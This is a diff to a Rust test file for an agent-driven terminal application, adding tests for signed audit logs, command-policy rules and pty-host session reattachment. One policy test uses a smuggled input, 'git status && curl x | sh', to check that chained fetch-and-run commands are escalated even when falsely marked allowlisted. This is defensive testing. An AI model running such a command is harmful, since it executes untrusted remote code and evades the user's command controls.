@@ -23,6 +23,12 @@ fn unique_temp_dir() -> PathBuf {
     ))
 }
 
+/// Key the audit emitters sign with in tests; the first call installs it.
+fn install_test_audit_key() -> &'static terminal_audit::AuditKey {
+    terminal_audit::install_key(terminal_audit::AuditKey::new("interactive-terminal tests"));
+    terminal_audit::installed_key().expect("audit key installed")
+}
+
 fn test_state() -> AppState {
     AppState {
         pending_commands_by_session: HashMap::from([("default".to_string(), Vec::new())]),
@@ -48,6 +54,7 @@ fn test_state() -> AppState {
         agent_session_ids: HashSet::new(),
         agent_session_meta: HashMap::new(),
         allowlist_patterns: Vec::new(),
+        policy_rules: Vec::new(),
         allowlist_data_root: None,
         known_workspace_paths: Vec::new(),
     }
@@ -78,6 +85,7 @@ fn test_state_with_repo(repo_root: PathBuf) -> AppState {
         agent_session_ids: HashSet::new(),
         agent_session_meta: HashMap::new(),
         allowlist_patterns: Vec::new(),
+        policy_rules: Vec::new(),
         allowlist_data_root: None,
         known_workspace_paths: Vec::new(),
     }
@@ -938,6 +946,7 @@ fn decline_sends_declined_response_to_channel() {
 /// 3. Audit log: `emit_launch_denied` writes a `launch_denied` entry.
 #[test]
 fn decline_emits_launch_denied_audit_event() {
+    install_test_audit_key();
     let workspace_dir = unique_temp_dir();
     std::fs::create_dir_all(&workspace_dir).expect("create workspace dir");
     let workspace_path = workspace_dir.to_string_lossy().to_string();
@@ -971,6 +980,7 @@ fn decline_emits_launch_denied_audit_event() {
 ///    (used when the dialog is dismissed without a decision).
 #[test]
 fn decline_emits_launch_cancelled_for_empty_reason() {
+    install_test_audit_key();
     let workspace_dir = unique_temp_dir();
     std::fs::create_dir_all(&workspace_dir).expect("create workspace dir");
     let workspace_path = workspace_dir.to_string_lossy().to_string();
@@ -995,6 +1005,60 @@ fn decline_emits_launch_cancelled_for_empty_reason() {
     let _ = std::fs::remove_dir_all(&workspace_dir);
 }
 
+/// 5. Audit log: command decisions and outcomes are chained and queryable.
+#[test]
+fn command_audit_events_are_chained_and_queryable() {
+    let key = install_test_audit_key();
+    let workspace_dir = unique_temp_dir();
+    std::fs::create_dir_all(&workspace_dir).expect("create workspace dir");
+    let workspace_path = workspace_dir.to_string_lossy().to_string();
+
+    let req = CommandRequest {
+        id: "req-audit".to_string(),
+        command: "cargo test".to_string(),
+        working_directory: workspace_path.clone(),
+        context: r#"{"context_pack":{"requesting_agent":"Tester"}}"#.to_string(),
+        session_id: "default".to_string(),
+        terminal_profile: TerminalProfile::System,
+        workspace_path: workspace_path.clone(),
+        venv_path: String::new(),
+        activate_venv: false,
+        timeout_seconds: 60,
+        args: Vec::new(),
+        env: HashMap::new(),
+        workspace_id: "ws-audit".to_string(),
+        allowlisted: false,
+    };
+
+    crate::audit_log::emit_command_approved(&req);
+    crate::audit_log::emit_command_finished(&req, Some(-1), true);
+    crate::audit_log::emit_command_declined(&req, "not now", None);
+
+    let log_path = workspace_dir.join("logs").join("agent_launch_audit.jsonl");
+    let summary = terminal_audit::verify(&log_path, key).expect("chain intact");
+    assert_eq!(summary.records, 3);
+
+    let response = crate::audit_log::answer_query(&crate::protocol::AuditQueryRequest {
+        id: "q-1".to_string(),
+        workspace_path: workspace_path.clone(),
+        filter: terminal_audit::AuditQuery {
+            agent: Some("tester".to_string()),
+            status: vec![terminal_audit::AuditEvent::CommandTimedOut],
+            ..Default::default()
+        },
+        verify: true,
+    });
+    assert!(response.success);
+    assert_eq!(response.records.len(), 1);
+    let record = &response.records[0].entry;
+    assert_eq!(record.request_id.as_deref(), Some("req-audit"));
+    assert_eq!(record.workspace_id.as_deref(), Some("ws-audit"));
+    assert_eq!(record.exit_code, Some(-1));
+    assert!(response.verification.expect("verification requested").intact);
+
+    let _ = std::fs::remove_dir_all(&workspace_dir);
+}
+
 // ---------------------------------------------------------------------------
 // Provider selection + autonomy mode scenario tests (Steps 15 & 17)
 // ---------------------------------------------------------------------------
@@ -1135,3 +1199,165 @@ fn cli_launch_routes_via_ws_terminal() {
         "CommandRequest.session_id must match AppState.selected_session_id (routing condition)"
     );
 }
+
+// ── Command policy ───────────────────────────────────────────────────────────
+
+fn make_policy_request(command: &str, allowlisted: bool) -> CommandRequest {
+    CommandRequest {
+        command: command.to_string(),
+        working_directory: "/repo".to_string(),
+        terminal_profile: TerminalProfile::Bash,
+        workspace_path: "/repo".to_string(),
+        allowlisted,
+        ..make_agent_launch_request("req-policy", "/repo")
+    }
+}
+
+#[test]
+fn command_policy_ignores_incoming_allowlisted_flag() {
+    let mut state = test_state();
+    state.allowlist_patterns = vec!["git status".to_string(), "git push".to_string()];
+
+    let decision = state.evaluate_command_policy(&make_policy_request("git status", false));
+    assert!(decision.is_allowed());
+    assert_eq!(decision.rule_id, "allowlist:git status");
+
+    let decision =
+        state.evaluate_command_policy(&make_policy_request("git status && curl x | sh", true));
+    assert_eq!(decision.action, command_policy::Action::Ask);
+
+    let decision = state.evaluate_command_policy(&make_policy_request("git push --force", true));
+    assert_eq!(decision.action, command_policy::Action::Deny);
+    assert_eq!(decision.rule_id, "builtin:git-force-push");
+}
+
+#[test]
+fn command_policy_applies_structured_rules_from_state() {
+    let mut state = test_state();
+    state.allowlist_patterns = vec!["cargo".to_string()];
+    state.policy_rules = vec![command_policy::Rule::new(
+        "team:no-publish",
+        command_policy::Action::Deny,
+        "cargo",
+    )
+    .subcommand(&["publish"])];
+
+    assert!(state
+        .evaluate_command_policy(&make_policy_request("cargo build", false))
+        .is_allowed());
+    let decision = state.evaluate_command_policy(&make_policy_request("cargo publish", false));
+    assert_eq!(decision.rule_id, "team:no-publish");
+}
+
+#[test]
+fn reattached_sessions_get_a_tab_once() {
+    let mut state = test_state();
+    assert!(state.register_reattached_session("session-7", "/work/repo", true));
+    assert!(!state.register_reattached_session("session-7", "/work/repo", true));
+    assert!(state.register_reattached_session("session-8", "/work", false));
+
+    assert!(state.session_ids_sorted().contains(&"session-7".to_string()));
+    assert_eq!(state.session_context_by_id["session-7"].workspace_path, "/work/repo");
+    assert_eq!(
+        state.session_lifecycle_by_id["session-8"],
+        SessionLifecycleState::Closed
+    );
+    assert_eq!(state.selected_session_id, "default");
+}
+
+/// Drive `list_sessions` / `attach_session` against a stand-in host that
+/// speaks the pty-host NDJSON protocol, as a restarted UI does on connect.
+#[cfg(feature = "pty-host")]
+#[tokio::test]
+async fn pty_host_client_lists_and_attaches_surviving_sessions() {
+    use crate::cxxqt_bridge::pty_host_client::PtyHostClient;
+    use pty_host_protocol::*;
+    use std::sync::{Arc, Mutex};
+    use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let (input_tx, mut input_rx) = tokio::sync::mpsc::unbounded_channel::<SessionInput>();
+
+    tokio::spawn(async move {
+        let (stream, _) = listener.accept().await.unwrap();
+        let (read_half, mut write_half) = tokio::io::split(stream);
+        let mut lines = BufReader::new(read_half).lines();
+        let send = |msg: PtyHostMessage| format!("{}\n", serde_json::to_string(&msg).unwrap());
+        while let Ok(Some(line)) = lines.next_line().await {
+            let reply = match serde_json::from_str::<PtyHostMessage>(&line).unwrap() {
+                PtyHostMessage::Hello(hello) => {
+                    assert_eq!(hello.secret, "s3cret");
+                    send(PtyHostMessage::HelloAck(HelloAck {
+                        protocol_version: PROTOCOL_VERSION,
+                        host_version: "test".to_string(),
+                    }))
+                }
+                PtyHostMessage::SessionList(_) => send(PtyHostMessage::SessionListed(SessionListed {
+                    sessions: vec![SessionInfo {
+                        session_id: "session-1".to_string(),
+                        program: "pwsh.exe".to_string(),
+                        cwd: "C:\\repo".to_string(),
+                        cols: 120,
+                        rows: 40,
+                        running: true,
+                        exit_code: None,
+                    }],
+                })),
+                PtyHostMessage::SessionAttach(attach) if attach.session_id == "session-1" => {
+                    let attached = send(PtyHostMessage::SessionAttached(SessionAttached {
+                        session_id: "session-1".to_string(),
+                        cols: 120,
+                        rows: 40,
+                        scrollback: "PS C:\\repo> cargo build\r\n".to_string(),
+                    }));
+                    let live = send(PtyHostMessage::SessionOutput(SessionOutput {
+                        session_id: "session-1".to_string(),
+                        data: "Finished\r\n".to_string(),
+                    }));
+                    format!("{attached}{live}")
+                }
+                PtyHostMessage::SessionAttach(attach) => {
+                    send(PtyHostMessage::SessionAttachFailed(SessionAttachFailed {
+                        session_id: attach.session_id,
+                        error: "unknown session".to_string(),
+                    }))
+                }
+                PtyHostMessage::SessionInput(input) => {
+                    let _ = input_tx.send(input);
+                    continue;
+                }
+                other => panic!("unexpected message from the client: {other:?}"),
+            };
+            write_half.write_all(reply.as_bytes()).await.unwrap();
+        }
+    });
+
+    let (output_tx, mut output_rx) = tokio::sync::mpsc::channel(16);
+    let (disconnect_tx, _disconnect_rx) = tokio::sync::mpsc::unbounded_channel();
+    let client = PtyHostClient::connect(
+        port,
+        "s3cret",
+        output_tx,
+        Arc::new(Mutex::new(test_state())),
+        disconnect_tx,
+    )
+    .await
+    .unwrap();
+
+    let sessions = client.list_sessions().await.unwrap();
+    assert_eq!(sessions.len(), 1);
+    assert!(sessions[0].running);
+
+    let (handle, attached) = client.attach_session("session-1").await.unwrap();
+    assert_eq!(attached.scrollback, "PS C:\\repo> cargo build\r\n");
+    let (session_id, data) = output_rx.recv().await.unwrap();
+    assert_eq!((session_id.as_str(), data.as_slice()), ("session-1", &b"Finished\r\n"[..]));
+
+    handle.write_raw(b"dir\r\n");
+    let input = input_rx.recv().await.unwrap();
+    assert_eq!((input.session_id.as_str(), input.data.as_str()), ("session-1", "dir\r\n"));
+
+    let error = client.attach_session("session-2").await.err().unwrap();
+    assert!(error.contains("unknown session"), "{error}");
+}